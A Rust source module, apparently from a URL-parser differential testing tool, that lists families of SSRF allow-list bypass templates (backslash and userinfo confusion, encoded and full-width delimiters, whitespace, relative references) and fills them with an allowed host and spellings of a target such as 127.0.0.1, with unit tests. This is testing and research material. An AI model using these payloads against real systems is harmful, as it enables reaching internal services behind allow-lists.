//! The payload families: the known ways of making two parsers read two
//! hosts out of one URL, written as templates and instantiated for the
//! allowed host and each spelling of the target.
//!
//! A template holds `{s}` (the scheme), `{a}` (the allowed host) and `{t}`
//! (the target, in one of its spellings: [`Target::spellings`]). The
//! families are those of the committed server oracles' payload requests
//! (`scripts/servers/make-requests.js`, source `ssrf`), rewritten around
//! the two hosts; relative references are tried only against a base.

use super::target::Target;

/// One family of templates.
pub struct Family {
    /// The family's name, as results and reports give it.
    pub name: &'static str,
    /// What the family plays on, in a line (for the report).
    pub idea: &'static str,
    /// The templates.
    pub templates: &'static [&'static str],
    /// Whether the templates are relative references (tried only with a
    /// base).
    pub relative: bool,
}

/// The schemes every absolute template is tried with.
pub const SCHEMES: [&str; 2] = ["http", "https"];

/// Every family, in the order candidates are made.
pub const FAMILIES: &[Family] = &[
    Family {
        name: "target-itself",
        idea: "the target as it is, in each of its spellings (a rule that reads the URL text may pass it)",
        templates: &["{s}://{t}/", "{s}://{t}:80/", "{s}://{t}/{a}"],
        relative: false,
    },
    Family {
        name: "backslash-at",
        idea: "a backslash is a path delimiter to some parsers and part of the userinfo to others",
        templates: &[
            "{s}://{a}\\@{t}/",
            "{s}://{a}\\\\@{t}/",
            "{s}://{t}\\@{a}/",
            "{s}://{t}\\.{a}/",
            "{s}://{t}\\{a}/",
            "{s}://{a}:80\\@{t}/",
            "{s}://{a}%5c@{t}/",
            "{s}://{t}\\\\{a}",
            "{s}://{a}\\?@{t}/",
            "{s}://{a}\\#@{t}/",
        ],
        relative: false,
    },
    Family {
        name: "userinfo",
        idea: "userinfo with '@' and ':' inside: the first or the last '@' ends it",
        templates: &[
            "{s}://{a}@{t}/",
            "{s}://u@{a}@{t}/",
            "{s}://{a}:x@{t}/",
            "{s}://{a}:80@{t}/",
            "{s}://u:p@{a}:x@{t}/",
            "{s}://{t}@{a}/",
            "{s}://{a}@@{t}/",
            "{s}://{a}%40{t}/",
            "{s}://{t}%40{a}/",
            "{s}://{a};x@{t}/",
            "{s}://u:p@ss@{t}/{a}",
            "{s}://{a}:@{t}/",
            "{s}://{a}[@{t}]/",
        ],
        relative: false,
    },
    Family {
        name: "fragment-query-at",
        idea: "'#', '?' or '/' before an '@': one parser ends the authority there, another reads on to the '@'",
        templates: &[
            "{s}://{t}#@{a}/",
            "{s}://{t}?@{a}/",
            "{s}://{t}/@{a}/",
            "{s}://{t}:80#@{a}/",
            "{s}://{t}:80?@{a}/",
            "{s}://{t}#.{a}",
            "{s}://{t}?.{a}",
            "{s}://{t}/.{a}",
            "{s}://{t};@{a}/",
            "{s}://{t}&@{a}/",
            "{s}://{t} @{a}/",
            "{s}://{t}#\\@{a}/",
            "{s}://{t}?\\@{a}/",
            "{s}://{t};.{a}/",
        ],
        relative: false,
    },
    Family {
        name: "slashes",
        idea: "missing or extra slashes after the scheme, or backslashes in their place",
        templates: &[
            "{s}:{t}",
            "{s}:/{t}",
            "{s}:///{t}",
            "{s}:////{t}",
            "{s}:\\\\{t}",
            "{s}:/\\{t}",
            "{s}:\\/{t}",
            "{s}://\\{t}",
            "{s}:///{t}/@{a}",
            "{s}:/{t}/#@{a}",
            "{s}:{t}#@{a}",
        ],
        relative: false,
    },
    Family {
        name: "whitespace",
        idea: "tab, CR, LF and other controls, removed by some parsers and kept or refused by others",
        templates: &[
            "{s}://{t}\t@{a}/",
            "{s}://{t}\n@{a}/",
            "{s}://{t}\r\n@{a}/",
            "{s}://{a}\t@{t}/",
            "{s}://{t}\u{0}.{a}/",
            "{s}://{t}\u{0}@{a}/",
            "{s}://{t}\u{b}@{a}/",
            "{s}://{a}\u{b}@{t}/",
            "{s}://{t} /{a}",
            "{s}://{t}\u{a0}@{a}/",
            "{s}:/\t/{t}",
            "{s}://\t{t}",
            " {s}://{t}",
        ],
        relative: false,
    },
    Family {
        name: "encoded-delimiters",
        idea: "percent-encoded delimiters and dots, decoded by some parsers before they split",
        templates: &[
            "{s}://{t}%2f{a}",
            "{s}://{a}%2f@{t}/",
            "{s}://{t}%23.{a}",
            "{s}://{t}%3f.{a}",
            "{s}://{t}%23@{a}/",
            "{s}://{t}%3f@{a}/",
            "{s}://{t}%2f@{a}/",
            "{s}://{t}%00.{a}",
            "{s}://{t}%0a.{a}",
            "{s}://{t}%5c.{a}",
            "{s}://{t}%2f.{a}",
            "{s}://{t}%2523@{a}/",
        ],
        relative: false,
    },
    Family {
        name: "idna-delimiters",
        idea: "full-width and compatibility characters that IDNA maps to '@', '#', '/', '?' or '.'",
        templates: &[
            "{s}://{t}\u{ff03}{a}",
            "{s}://{t}\u{ff1f}{a}",
            "{s}://{t}\u{ff0f}{a}",
            "{s}://{a}\u{ff20}{t}",
            "{s}://{a}\u{fe6b}{t}",
            "{s}://{t}\u{2100}{a}",
            "{s}://{t}\u{2101}{a}",
            "{s}://{t}\u{3002}{a}",
            "{s}://{t}\u{ff3c}{a}",
        ],
        relative: false,
    },
    Family {
        name: "suffix",
        idea: "the allowed host as a label of a name under the target",
        templates: &["{s}://{a}.{t}/", "{s}://{a}.{t}:80/", "{s}://www.{a}.{t}/"],
        relative: false,
    },
    Family {
        name: "ports",
        idea: "a port, or what looks like one, between the two hosts",
        templates: &[
            "{s}://{a}:80@{t}/",
            "{s}://{t}:80\\@{a}/",
            "{s}://{t}:80/@{a}/",
            "{s}://{t}:@{a}/",
            "{s}://{t}:80:80/",
            "{s}://{a}:80:@{t}/",
            "{s}://{t}:0080/",
            "{s}://{t}:80\t/",
        ],
        relative: false,
    },
    Family {
        name: "relative",
        idea: "references that keep or drop the base's host: scheme-relative, backslashes, encoded slashes",
        templates: &[
            "//{t}",
            "//{t}/",
            "///{t}",
            "////{t}",
            "\\\\{t}",
            "/\\{t}",
            "\\/{t}",
            "/\\/{t}",
            "/%2f{t}",
            "\t//{t}",
            " //{t}",
            "//{t}#@{a}",
            "//{a}@{t}",
            "//{a}\\@{t}",
            "{s}:{t}",
            "{s}:/{t}",
            "{s}:\\\\{t}",
            "//\t{t}",
        ],
        relative: true,
    },
];

/// One URL to try.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct Candidate {
    pub input: String,
    pub base: Option<String>,
    /// The family it came from (for a mutated one, its seed's).
    pub family: &'static str,
    /// The target's spelling in it.
    pub spelling: &'static str,
    /// The spelling's place in [`Target::spellings`] (the plain form is 0):
    /// of two results as short, the plainer is shown.
    pub rank: usize,
    /// How the search changed its seed, if it did: "inserted '\t' at 12".
    pub mutation: Option<String>,
}

/// Every family's candidates for `allowed` and `target`, absolute ones
/// first; relative ones only with a `base`.
pub fn candidates(allowed: &str, target: &Target, base: Option<&str>) -> Vec<Candidate> {
    let spellings = target.spellings();
    let mut out = Vec::new();
    for family in FAMILIES {
        if family.relative && base.is_none() {
            continue;
        }
        for template in family.templates {
            let schemes: &[&str] = if template.contains("{s}") {
                &SCHEMES
            } else {
                &[""]
            };
            for (rank, (spelling, t)) in spellings.iter().enumerate() {
                for scheme in schemes {
                    let input = template
                        .replace("{s}", scheme)
                        .replace("{a}", allowed)
                        .replace("{t}", t);
                    out.push(Candidate {
                        input,
                        base: base.map(str::to_owned),
                        family: family.name,
                        spelling,
                        rank,
                        mutation: None,
                    });
                }
            }
        }
    }
    out
}

/// The family called `name`.
pub fn family(name: &str) -> Option<&'static Family> {
    FAMILIES.iter().find(|f| f.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn templates_are_filled_for_every_spelling_and_scheme() {
        let target = Target::parse("127.0.0.1").unwrap();
        let all = candidates("good.com", &target, None);
        assert!(
            all.iter().all(|c| !c.input.contains('{')),
            "a placeholder left"
        );
        assert!(
            all.iter()
                .any(|c| c.input == "http://good.com\\@0x7f000001/")
        );
        assert!(all.iter().all(|c| c.family != "relative"));
        let with_base = candidates("good.com", &target, Some("http://good.com/a"));
        assert!(
            with_base
                .iter()
                .any(|c| c.input == "//127.0.0.1" && c.family == "relative")
        );
    }

    #[test]
    fn family_names_are_unique() {
        for (i, f) in FAMILIES.iter().enumerate() {
            assert!(FAMILIES[..i].iter().all(|g| g.name != f.name), "{}", f.name);
            assert_eq!(family(f.name).map(|g| g.name), Some(f.name));
        }
    }
}
